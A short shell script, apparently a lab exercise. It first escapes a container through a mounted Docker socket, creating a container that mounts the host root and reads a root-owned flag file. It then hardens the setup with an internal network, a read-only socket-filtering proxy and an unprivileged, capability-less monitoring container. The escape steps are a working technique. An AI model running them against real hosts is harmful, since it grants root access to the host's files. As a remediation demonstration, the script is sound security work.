#!/bin/sh
set -eu
moteur() { docker exec supervision curl -s --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' "$@"; }
moteur -d '{"Image": "labo/base:1", "Tty": true, "Cmd": ["chroot", "/hote", "cat", "/root/drapeau"], "HostConfig": {"Binds": ["/:/hote"]}}' \
  'http://docker/containers/create?name=preuve'
moteur -X POST http://docker/containers/preuve/start
moteur -X POST http://docker/containers/preuve/wait
echo "Réponse drapeau : $(moteur 'http://docker/containers/preuve/logs?stdout=1' | tr -d '\r')"
moteur -X DELETE http://docker/containers/preuve
docker network create --internal surveillance
docker run -d --name garde --network surveillance --read-only --cap-drop ALL --security-opt no-new-privileges -v /run:/var/run:ro labo/filtre:1
docker stop -t 1 supervision
docker rm supervision
docker run -d --name supervision --network surveillance --user 10001 --cap-drop ALL --read-only -e SOURCE=http://garde:2375 labo/supervision:1
